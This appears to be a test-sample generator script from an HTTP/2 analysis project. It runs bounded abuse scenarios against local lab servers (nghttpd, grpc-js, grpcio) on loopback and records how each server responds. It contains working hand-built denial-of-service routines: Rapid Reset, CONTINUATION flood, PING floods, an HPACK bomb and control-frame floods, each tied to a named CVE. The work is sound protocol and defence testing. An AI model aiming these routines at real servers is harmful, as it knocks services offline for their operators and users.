// One abuse scenario (issue 16 item 2): an abusive raw client (flood-client.mjs, ping-flood.py) against a
// REAL server on loopback, bounded; prints the meta.json, whose `expect.server` is what the server answered
// as the client read it off the socket.
//   node scripts/samples/abuse/scenario.mjs NAME PORT
import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  CANCEL,
  F,
  T,
  frame,
  getRequest,
  grpcRequest,
  literal,
  ping,
  rstStream,
  serverSummary,
  sleep,
  withSession,
} from './flood-client.mjs';

const HERE = fileURLToPath(new URL('.', import.meta.url));
const REPO = fileURLToPath(new URL('../../../', import.meta.url));
const [name, portArg] = process.argv.slice(2);
const PORT = Number(portArg);
const GENERATOR = 'scripts/samples/abuse/scenario.mjs';

function version(cmd, args) {
  return new Promise((resolve) =>
    execFile(cmd, args, (err, out, errOut) => resolve(err ? 'unknown' : `${out}${errOut}`.trim().split('\n')[0])),
  );
}

/** A server child process; resolves once `ready()` says it listens. Stopped by its own pid. */
async function startChild(cmd, args, ready) {
  const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'], cwd: REPO });
  let output = '';
  child.stdout.on('data', (b) => (output += b));
  child.stderr.on('data', (b) => (output += b));
  for (let i = 0; i < 200; i++) {
    if (await ready(output)) return { child, output: () => output };
    if (child.exitCode !== null) break;
    await sleep(50);
  }
  child.kill();
  throw new Error(`${cmd} did not start: ${output}`);
}

async function stopChild(server) {
  if (server.child.exitCode === null) {
    const exited = new Promise((resolve) => server.child.once('close', resolve));
    server.child.kill('SIGTERM');
    await exited;
  }
}

/** nghttpd --no-tls on PORT; readiness from `ss`, not a probe connection (it would be in the capture). */
async function nghttpd(docroot) {
  const listening = () =>
    new Promise((resolve) =>
      execFile('ss', ['-Hltn', `sport = :${PORT}`], (err, out) => resolve(!err && out.trim() !== '')),
    );
  return startChild('nghttpd', ['--no-tls', '-a', '127.0.0.1', '-d', docroot, String(PORT)], listening);
}

async function withNghttpd(fn) {
  const tmp = mkdtempSync(join(tmpdir(), 'h2scope-abuse-'));
  writeFileSync(join(tmp, 'index.html'), '<h1>h2scope abuse sample</h1>\n');
  const server = await nghttpd(tmp);
  try {
    return await fn();
  } finally {
    await stopChild(server);
    rmSync(tmp, { recursive: true, force: true });
  }
}

async function withGrpcJs(fn) {
  const server = await startChild('node', [join(HERE, 'grpc-server.mjs'), String(PORT)], (o) => o.includes('READY'));
  try {
    return await fn();
  } finally {
    await stopChild(server);
  }
}

async function withGrpcio(fn) {
  const lab = join(REPO, 'scripts/samples/grpc/py/lab.py');
  const args = [lab, 'server', '--port', String(PORT), '--name', 'grpcio', '--strict-pings'];
  const server = await startChild('/usr/bin/python3', args, (o) => o.includes('READY'));
  try {
    return await fn();
  } finally {
    await stopChild(server);
  }
}

/**
 * Rapid Reset: `pairs` requests each followed by RST_STREAM CANCEL on new streams, `batch` per write with
 * 5 ms between writes, until all are sent or the server answers GOAWAY.
 */
async function rapidReset(pairs, request, batch) {
  let sent = 0;
  const session = await withSession(PORT, async (s) => {
    for (let i = 0; i < pairs && !s.closed && s.goaway === null; i += batch) {
      const frames = [];
      for (let j = i; j < Math.min(pairs, i + batch); j++) frames.push(...request(2 * j + 1));
      s.send(Buffer.concat(frames));
      sent = Math.min(pairs, i + batch);
      await s.drain();
      await sleep(5);
    }
    await sleep(300);
  });
  return { sent, server: serverSummary(session) };
}

const SCENARIOS = {
  async 'abuse-rapid-reset-nghttpd'() {
    const pairs = 500;
    const request = (id) => [frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, id, getRequest(PORT)), rstStream(id, CANCEL)];
    const result = await withNghttpd(() => rapidReset(pairs, request, 50));
    return {
      description:
        `CRAFTED Rapid Reset client (CVE-2023-44487; scripts/samples/abuse/flood-client.mjs, node:net, hand-built frames) against a real nghttpd ${await version('nghttpd', ['--version'])}: ` +
        `${pairs} streams, each GET / HEADERS (END_STREAM) immediately followed by RST_STREAM CANCEL, 50 per write with 5 ms between writes. This nghttpd predates nghttp2's reset rate limit (1.57): it never answers a reset stream and never sends GOAWAY.`,
      expect: { streamsOpenedAndReset: result.sent, server: result.server },
    };
  },
  async 'abuse-rapid-reset-grpc-js'() {
    const pairs = 3000;
    const request = (id) => [
      frame(T.HEADERS, F.END_HEADERS, id, grpcRequest(PORT, '/scope.v1.Lab/Echo')),
      frame(T.DATA, F.END_STREAM, id, Buffer.alloc(5)),
      rstStream(id, CANCEL),
    ];
    // 10 per write: in bigger bursts the server stops reading (zero window) before its GOAWAY.
    const result = await withGrpcJs(() => rapidReset(pairs, request, 10));
    return {
      description:
        `CRAFTED Rapid Reset client (CVE-2023-44487; scripts/samples/abuse/flood-client.mjs) against a real grpc-js 1.14.7 server on Node ${process.versions.node} (nghttp2 ${process.versions.nghttp2}): ` +
        `streams each carrying a unary /scope.v1.Lab/Echo request (HEADERS, an empty message with END_STREAM) immediately followed by RST_STREAM CANCEL, 10 per write with 5 ms between writes, until the server answers GOAWAY (at most ${pairs}). ` +
        'The server closes the connection with GOAWAY INTERNAL_ERROR (nghttp2 answers an exceeded stream reset rate limit, burst 1,000 and 33 per second, that way).',
      expect: { streamsOpenedAndReset: result.sent, server: result.server },
    };
  },
  async 'abuse-continuation-nghttpd'() {
    const continuations = 100;
    const result = await withNghttpd(async () => {
      const session = await withSession(PORT, async (s) => {
        const parts = [frame(T.HEADERS, F.END_STREAM, 1, getRequest(PORT))];
        for (let i = 0; i < continuations; i++)
          parts.push(frame(9, 0, 1, literal(`x-flood-${i % 10}`, 'a'.repeat(40))));
        s.send(Buffer.concat(parts));
        await s.drain();
        await sleep(300);
      });
      return serverSummary(session);
    });
    return {
      description:
        `CRAFTED CONTINUATION flood (CVE-2024-27316 family; scripts/samples/abuse/flood-client.mjs) against a real nghttpd ${await version('nghttpd', ['--version'])} (Debian, with the CVE-2024-28182 backport): ` +
        `GET / HEADERS on stream 1 without END_HEADERS, then ${continuations} CONTINUATION frames of one 52-byte header field each, none with END_HEADERS, in one write. ` +
        'nghttpd logs "Too many CONTINUATION frames following a HEADER frame" after the 8th and closes the TCP connection without GOAWAY.',
      expect: { continuations, server: result },
    };
  },
  async 'abuse-ping-flood-grpc-js'() {
    const script = join(HERE, 'ping-flood.py');
    const out = await withGrpcJs(
      () =>
        new Promise((resolve, reject) =>
          execFile('/usr/bin/python3', [script, '--port', String(PORT), '--max', '20000'], { timeout: 30_000 }, (err, stdout) =>
            err ? reject(err) : resolve(JSON.parse(stdout)),
          ),
        ),
    );
    return {
      description:
        `CRAFTED PING flood (CVE-2019-9512; scripts/samples/abuse/ping-flood.py, a raw client with a 4 KiB receive buffer that reads nothing while it floods) against a real grpc-js 1.14.7 server on Node ${process.versions.node} (nghttp2 ${process.versions.nghttp2}): ` +
        'PINGs in batches of 100 until a write fails. The unread PING ACKs back up past nghttp2\'s outbound limit and the server closes with GOAWAY INTERNAL_ERROR (not ENHANCE_YOUR_CALM).',
      expect: { pingsSent: out.pingsSent, stoppedBy: out.stoppedBy, server: out.server },
    };
  },
  async 'abuse-ping-flood-grpcio'() {
    const pings = 300;
    const result = await withGrpcio(async () => {
      const session = await withSession(PORT, async (s) => {
        const parts = [];
        for (let i = 0; i < pings; i++) parts.push(ping(i));
        s.send(Buffer.concat(parts));
        await s.drain();
        await sleep(500);
      });
      return serverSummary(session);
    });
    return {
      description:
        `CRAFTED PING flood (CVE-2019-9512; scripts/samples/abuse/flood-client.mjs) against a real Python grpcio ${await version('/usr/bin/python3', ['-c', 'import grpc; print(grpc.__version__)'])} server (scripts/samples/grpc/py/lab.py --strict-pings: grpc.http2.max_ping_strikes 2): ` +
        `${pings} PINGs in one write, no stream. C-core answers the first ones, counts strikes and closes with GOAWAY ENHANCE_YOUR_CALM "too_many_pings".`,
      expect: { pings, server: result },
    };
  },
  async 'abuse-hpack-bomb-nghttpd'() {
    const blocks = 3;
    const refs = 4000;
    const result = await withNghttpd(async () => {
      const session = await withSession(PORT, async (s) => {
        // RFC 7541 §6.2.1: a 4,000-byte literal with incremental indexing becomes dynamic entry 62...
        const value = Buffer.alloc(4000, 'a');
        const name = Buffer.from('x-big');
        const entry = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, 0xa1, 0x1e]), value]);
        s.send(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 1, Buffer.concat([getRequest(PORT), entry])));
        await sleep(50);
        // ...and every later block is one-byte references to it (§6.1, 0xbe = index 62).
        for (let i = 0; i < blocks; i++) {
          const block = Buffer.concat([getRequest(PORT), Buffer.alloc(refs, 0xbe)]);
          s.send(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 3 + 2 * i, block));
        }
        await s.drain();
        await sleep(300);
      });
      return serverSummary(session);
    });
    return {
      description:
        `CRAFTED HPACK bomb (CVE-2016-6581 family; scripts/samples/abuse/flood-client.mjs) against a real nghttpd ${await version('nghttpd', ['--version'])}: ` +
        `GET / on stream 1 adds a 4,000-byte header field to the HPACK dynamic table, then ${blocks} GET / requests each carry ${refs} one-byte references to it (about 16 MB of header fields each).`,
      expect: { blocks, referencesPerBlock: refs, server: result },
    };
  },
  async 'abuse-floods-nghttpd'() {
    const n = 300;
    const result = await withNghttpd(async () => {
      const settings = await withSession(PORT, async (s) => {
        s.send(Buffer.concat(Array.from({ length: n }, () => frame(T.SETTINGS, 0, 0))));
        await s.drain();
        await sleep(200);
      });
      const empty = await withSession(PORT, async (s) => {
        const post = Buffer.concat([Buffer.from([0x83, 0x86, 0x84]), literal(':authority', `127.0.0.1:${PORT}`)]);
        const parts = [frame(T.HEADERS, F.END_HEADERS, 1, post)];
        for (let i = 0; i < n; i++) parts.push(frame(T.DATA, 0, 1));
        parts.push(frame(T.DATA, F.END_STREAM, 1));
        s.send(Buffer.concat(parts));
        await s.drain();
        await sleep(200);
      });
      const updates = await withSession(PORT, async (s) => {
        const inc = Buffer.alloc(4);
        inc.writeUInt32BE(1, 0);
        s.send(Buffer.concat(Array.from({ length: n }, () => frame(T.WINDOW_UPDATE, 0, 0, inc))));
        await s.drain();
        await sleep(200);
      });
      return {
        settingsFlood: serverSummary(settings),
        emptyDataFlood: serverSummary(empty),
        windowUpdateFlood: serverSummary(updates),
      };
    });
    return {
      description:
        `CRAFTED control-frame floods (scripts/samples/abuse/flood-client.mjs) against a real nghttpd ${await version('nghttpd', ['--version'])}, one connection each, ${n} frames in one write: ` +
        `1) ${n} empty SETTINGS frames (CVE-2019-9515), 2) a POST / on stream 1 followed by ${n} empty DATA frames without END_STREAM (CVE-2019-9518), then one with END_STREAM, 3) ${n} WINDOW_UPDATEs of 1 byte on stream 0 with no DATA received.`,
      expect: result,
    };
  },
};

const scenario = SCENARIOS[name];
if (scenario === undefined) {
  console.error(`unknown scenario ${name}; known: ${Object.keys(SCENARIOS).join(', ')}`);
  process.exit(2);
}
const meta = await scenario();
const out = {
  description: meta.description,
  generator: GENERATOR,
  ports: [PORT],
  linkType: 'EN10MB',
  crafted: true,
  expect: meta.expect,
};
process.stdout.write(`${JSON.stringify(out, null, 2)}\n`);
